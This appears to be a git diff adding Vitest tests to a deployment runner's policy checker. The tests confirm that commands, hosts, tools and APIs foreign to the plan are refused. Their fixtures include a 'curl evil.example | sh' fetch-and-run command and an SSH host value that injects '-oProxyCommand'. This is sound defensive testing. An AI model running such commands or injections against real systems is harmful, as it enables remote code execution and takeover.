@@ -2,11 +2,14 @@
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { afterAll, expect, test } from 'vitest';
+import { afterAll, describe, expect, test } from 'vitest';
 import type { SaidDecision } from '../../src/contract/envelope.js';
+import type { Command } from '../../src/contract/plan/commands.js';
+import { secondPlacesOf } from '../../src/contract/second-places.js';
 import { digestOf } from '../../src/plan/core/digest.js';
 import { PlanError } from '../../src/plan/core/problems.js';
 import { loadPlan } from '../../src/plan/load.js';
+import { type ActInput, plannedAct } from '../../src/policy/acts.js';
 import { ENVELOPE_NAMESPACE, preAuthentication, sealed, statementOf } from '../../src/policy/dsse.js';
 import { judgeAct } from '../../src/policy/judge-act.js';
 import { loadPolicy } from '../../src/policy/policy.js';
@@ -157,4 +160,81 @@ test('a rollback by itself goes to the commit that production has told this runn
   const unseen = { refused: expect.stringContaining('production has not told this runner that it ran commit') };
   expect(await back(LATER, [COMMIT])).toEqual(unseen);
   expect(await back(COMMIT)).toEqual(unseen);
+});
+
+describe('what is read by commands is the plan’s own', () => {
+  const { resolved: plan } = loadPlan(SHIPPED);
+  const { production } = plan.environments;
+  const key = (step: string) => ({ deployment: 'shop-1', step, generation: 1 });
+  const theirs: Command = {
+    run: ['sh', '-c', 'curl evil.example | sh'],
+    on: 'worker',
+    folder: '/tmp',
+    timeout: 60_000,
+  };
+  const metric = (source: object): unknown => ({ ...plan.watches[0]?.metrics[0], source });
+  const look = (activity: string, input: ActInput) => plannedAct(activity, input, plan)?.kind;
+
+  test('metrics and the places that are listened to, whichever environment they are of', () => {
+    for (const { metrics, environment } of [...(plan.soak ? [plan.soak] : []), ...plan.watches]) {
+      expect(look('sampleMetrics', { metrics, elsewhere: secondPlacesOf(plan, environment) })).toBe('read');
+      expect(look('sampleMetrics', { metrics: metrics.slice(1) })).toBe('read');
+    }
+  });
+
+  test.each<[string, ActInput]>([
+    ['a metric by another command', { metrics: [metric({ kind: 'command', command: theirs, tools: [], window: 1 })] }],
+    ['another log', { metrics: [metric({ kind: 'logs', command: theirs, window: 1, pattern: '.' })] }],
+    [
+      'a command of the plan in a metric’s place',
+      { metrics: [metric({ kind: 'command', command: plan.commands.deploy })] },
+    ],
+    [
+      'another shell',
+      { elsewhere: [{ kind: 'shell', title: 'x', server: { kind: 'ssh', host: '-oProxyCommand=x' } }] },
+    ],
+    ['another evidence store', { evidence: { store: '/tmp/elsewhere', deployment: 'shop-1' } }],
+  ])('%s is not', (_, input) => {
+    expect(look('sampleMetrics', input)).toBeUndefined();
+  });
+
+  test('load tests of staging by their steps, with the plan’s log or none', () => {
+    const { staging: environment } = plan.environments;
+    const [test] = plan.loadTests;
+    const { logs } = plan.commands;
+    const asked = { key: key(test?.id ?? ''), environment, test, logs };
+    expect(look('runLoadTest', asked)).toBe('look');
+    expect(look('runLoadTest', { ...asked, logs: undefined })).toBe('look');
+    expect(look('runLoadTest', { ...asked, logs: theirs })).toBeUndefined();
+    expect(look('runLoadTest', { ...asked, key: key('production.deploy') })).toBeUndefined();
+    expect(look('runLoadTest', { ...asked, environment: production })).toBeUndefined();
+    expect(look('runLoadTest', { ...asked, test: { ...test, requests: 1_000_000 } })).toBeUndefined();
+  });
+
+  test('logins and health checks by a command are those of the plan’s own environments', () => {
+    const login = { kind: 'command' as const, command: theirs };
+    const path = plan.healthPath;
+    for (const activity of [
+      'awaitHealth',
+      'readStarts',
+      'awaitDrained',
+      'checkMaintenance',
+      'checkPath',
+      'verifyState',
+    ]) {
+      expect(look(activity, { environment: production }), activity).toBe('read');
+      const health = { version: { command: theirs } };
+      for (const change of [{ login }, { health }, { tools: ['/tmp/theirs'] }, { api: 'https://evil.example' }])
+        expect(look(activity, { environment: { ...production, ...change }, ...{ path } }), activity).toBeUndefined();
+    }
+    const asked = { environment: production, checks: plan.smoke };
+    expect(look('checkEndpoints', asked)).toBe('read');
+    expect(look('checkEndpoints', { environment: production })).toBeUndefined();
+    const [first] = plan.smoke;
+    expect(look('checkEndpoints', { ...asked, checks: [{ ...first, method: 'DELETE' }] })).toBeUndefined();
+    expect(look('checkStaging', { environments: [production] })).toBe('read');
+    expect(look('checkStaging', { environments: [production, { ...production, login }] })).toBeUndefined();
+    expect(look('checkTools', { tools: plan.prerequisites.tools })).toBe('read');
+    expect(look('checkTools', { tools: ['/tmp/theirs'] })).toBeUndefined();
+  });
 });
